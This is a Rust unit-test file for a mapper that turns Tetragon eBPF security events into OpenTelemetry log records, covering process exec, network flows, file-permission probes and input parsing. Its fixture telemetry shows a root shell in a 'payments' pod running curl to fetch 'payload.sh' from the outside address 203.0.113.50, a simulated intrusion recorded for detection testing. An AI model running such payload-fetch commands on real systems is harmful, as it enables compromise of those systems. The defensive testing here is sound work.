//! Unit tests of the Tetragon mapping, on export lines as Tetragon writes them.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use super::*;
use crate::falco::test_support::*;

fn records() -> Vec<LogRecord> {
    parse_body(TETRAGON.as_bytes())
        .unwrap()
        .into_iter()
        .map(|e| map_event(e, OBSERVED).unwrap())
        .collect()
}

fn pod_and_process(r: &LogRecord) {
    assert_eq!(s(r, "process.executable.path"), "/usr/bin/curl");
    assert_eq!(s(r, "process.executable.name"), "curl");
    assert_eq!(
        s(r, "process.command_line"),
        "/usr/bin/curl -s https://203.0.113.50/payload.sh"
    );
    assert_eq!(int(r, "process.pid"), 52699);
    assert_eq!(int(r, "process.user.id"), 0);
    assert_eq!(int(r, "process.parent_pid"), 52601);
    assert_eq!(s(r, "tetragon.parent.binary"), "/bin/sh");
    assert_eq!(
        s(r, "container.id"),
        "9a8b7c6d5e4f0123456789abcdef0123456789abcdef0123456789abcdef0123"
    );
    assert_eq!(s(r, "container.name"), "payments");
    assert_eq!(s(r, "container.image.name"), "ghcr.io/acme/payments");
    assert_eq!(strings(r, "container.image.tags"), ["2.7.1"]);
    assert!(s(r, "container.image.id").starts_with("ghcr.io/acme/payments@sha256:"));
    assert_eq!(s(r, "host.name"), "ip-10-0-1-23");
}

#[test]
fn process_exec() {
    let r = &records()[0];
    assert_eq!(r.time_unix_nano, at(20, 1, 100_199_000));
    assert_eq!(r.observed_time_unix_nano, OBSERVED);
    assert_eq!(r.severity_number, SeverityNumber::Info as i32);
    assert_eq!(s(r, "event.domain"), "runtime");
    assert_eq!(s(r, "tetragon.event"), "process_exec");
    assert_eq!(s(r, "k8s.namespace.name"), "payments");
    assert_eq!(s(r, "k8s.pod.name"), "payments-api-7d9f8b6c5d-qz4xw");
    assert_eq!(s(r, "k8s.workload.name"), "payments-api");
    assert_eq!(s(r, "k8s.workload.kind"), "Deployment");
    assert!(attr(r, "k8s.pod.labels").is_some());
    pod_and_process(r);
    assert_eq!(
        body(r),
        "process_exec payments/payments-api-7d9f8b6c5d-qz4xw /usr/bin/curl -s https://203.0.113.50/payload.sh"
    );
    assert!(attr(r, "tetragon.function_name").is_none());
    assert!(attr(r, "source.address").is_none());
}

#[test]
fn process_kprobe_tcp_connect_is_a_flow() {
    let r = &records()[1];
    assert_eq!(r.time_unix_nano, at(20, 1, 180_000_000));
    assert_eq!(s(r, "event.domain"), "network.flow");
    assert_eq!(s(r, "tetragon.event"), "process_kprobe");
    assert_eq!(s(r, "tetragon.function_name"), "tcp_connect");
    assert_eq!(s(r, "tetragon.policy_name"), "monitor-network");
    assert_eq!(s(r, "source.address"), "10.0.3.17");
    assert_eq!(int(r, "source.port"), 43122);
    assert_eq!(s(r, "destination.address"), "203.0.113.50");
    assert_eq!(int(r, "destination.port"), 443);
    assert_eq!(s(r, "network.transport"), "tcp");
    assert_eq!(s(r, "source.k8s.namespace.name"), "payments");
    assert_eq!(s(r, "source.k8s.pod.name"), "payments-api-7d9f8b6c5d-qz4xw");
    assert_eq!(s(r, "source.k8s.workload.name"), "payments-api");
    assert!(attr(r, "source.k8s.pod.labels").is_some());
    // The pod is one end of the flow, not the record's subject.
    assert!(attr(r, "k8s.namespace.name").is_none());
    assert!(attr(r, "destination.k8s.namespace.name").is_none());
    pod_and_process(r);
    assert_eq!(
        body(r),
        "tcp_connect payments/payments-api-7d9f8b6c5d-qz4xw /usr/bin/curl tcp 10.0.3.17:43122 -> 203.0.113.50:443"
    );
}

#[test]
fn other_kprobes_are_runtime_records() {
    let r = &records()[2];
    assert_eq!(s(r, "event.domain"), "runtime");
    assert_eq!(s(r, "tetragon.function_name"), "security_file_permission");
    assert!(body(r).starts_with(
        "process_kprobe security_file_permission payments/payments-api-7d9f8b6c5d-qz4xw /usr/bin/curl"
    ));
    assert_eq!(s(r, "tetragon.policy_name"), "sensitive-files");
    assert_eq!(strings(r, "tetragon.tags"), ["observability.filesystem"]);
    assert!(matches!(
        attr(r, "tetragon.args"),
        Some(harrier_pdata::otlp::common::v1::any_value::Value::ArrayValue(a)) if a.values.len() == 2
    ));
    assert_eq!(s(r, "k8s.workload.name"), "payments-api");
    pod_and_process(r);
}

#[test]
fn process_exit() {
    let r = &records()[3];
    assert_eq!(s(r, "event.domain"), "runtime");
    assert_eq!(s(r, "tetragon.event"), "process_exit");
    assert_eq!(int(r, "process.exit.code"), 0);
    assert_eq!(
        body(r),
        "process_exit payments/payments-api-7d9f8b6c5d-qz4xw /usr/bin/curl -s https://203.0.113.50/payload.sh -> 0"
    );
    assert_eq!(s(r, "k8s.pod.name"), "payments-api-7d9f8b6c5d-qz4xw");
    pod_and_process(r);
}

#[test]
fn accept_and_udp_and_hosts() {
    // An accepted connection: the local end is the destination.
    let line = r#"{"process_kprobe":{"process":{"pid":911,"binary":"/usr/sbin/nginx","pod":{"namespace":"web","name":"front-6b7c8d9f5b-zq2xk"}},"function_name":"inet_csk_accept","args":[{"sock_arg":{"family":"AF_INET","type":"SOCK_STREAM","protocol":"IPPROTO_TCP","saddr":"10.0.4.2","daddr":"10.0.9.8","sport":8080,"dport":51000}}]},"node_name":"n1","time":"2024-06-11T09:00:00Z"}"#;
    let r = map_event(serde_json::from_str(line).unwrap(), 0).unwrap();
    assert_eq!(s(&r, "source.address"), "10.0.9.8");
    assert_eq!(int(&r, "source.port"), 51000);
    assert_eq!(s(&r, "destination.address"), "10.0.4.2");
    assert_eq!(int(&r, "destination.port"), 8080);
    assert_eq!(s(&r, "destination.k8s.workload.name"), "front");
    assert!(attr(&r, "source.k8s.namespace.name").is_none());
    // UDP from the socket type; a host process (no pod).
    let line = r#"{"process_kprobe":{"process":{"pid":50884,"binary":"/coredns"},"function_name":"udp_sendmsg","args":[{"sock_arg":{"family":"AF_INET","type":"SOCK_DGRAM","saddr":"10.244.0.30","daddr":"10.96.0.10","sport":45729,"dport":53}},{"int_arg":69}]},"node_name":"n1"}"#;
    let r = map_event(serde_json::from_str(line).unwrap(), 0).unwrap();
    assert_eq!(s(&r, "network.transport"), "udp");
    assert_eq!(s(&r, "event.domain"), "network.flow");
    assert!(!keys(&r).iter().any(|k| k.contains("k8s.")));
    assert_eq!(r.time_unix_nano, 0);
    assert_eq!(
        body(&r),
        "udp_sendmsg /coredns udp 10.244.0.30:45729 -> 10.96.0.10:53"
    );
    // No workload from Tetragon: guessed from the pod name.
    let line = r#"{"process_exec":{"process":{"binary":"/bin/sh","pod":{"namespace":"db","name":"postgres-1","container":{"image":{"name":"postgres:16.3"}}}}}}"#;
    let r = map_event(serde_json::from_str(line).unwrap(), 0).unwrap();
    assert_eq!(s(&r, "k8s.workload.name"), "postgres");
    assert_eq!(s(&r, "container.image.name"), "postgres");
    assert_eq!(s(&r, "process.command_line"), "/bin/sh");
}

#[test]
fn events_without_a_known_key_are_rejected() {
    for line in [
        r#"{"node_name":"n1","time":"2024-06-11T09:00:00Z"}"#,
        r#"{"process_loader":{"process":{}},"node_name":"n1"}"#,
        r#"{"process_exec":"oops"}"#,
        r#"42"#,
    ] {
        let event = serde_json::from_str(line).unwrap();
        assert!(map_event(event, 0).is_err(), "{line}");
    }
}

#[test]
fn bodies() {
    // Blank lines and CRLF are fine; a JSON array works too.
    let crlf = TETRAGON.replace('\n', "\r\n\n");
    assert_eq!(parse_body(crlf.as_bytes()).unwrap().len(), 4);
    let lines: Vec<&str> = TETRAGON.lines().collect();
    let array = format!("[{}]", lines.join(",\n"));
    assert_eq!(parse_body(array.as_bytes()).unwrap().len(), 4);
    // A line that is not JSON fails the body, naming the line.
    let broken = format!(
        "{}\n{}\n{{\"process_exec\":\n{}\n",
        lines[0], lines[1], lines[3]
    );
    let err = parse_body(broken.as_bytes()).unwrap_err();
    assert!(matches!(err, BodyError::Line { line: 3, .. }), "{err:?}");
    assert!(err.to_string().starts_with("line 3: not JSON: "), "{err}");
    assert_eq!(parse_body(b" \n\n").unwrap_err(), BodyError::Empty);
    assert_eq!(parse_body(b" [ ]").unwrap_err(), BodyError::Empty);
    assert!(matches!(
        parse_body(b"[{\"process_exec\":{}},").unwrap_err(),
        BodyError::Array(_)
    ));
}
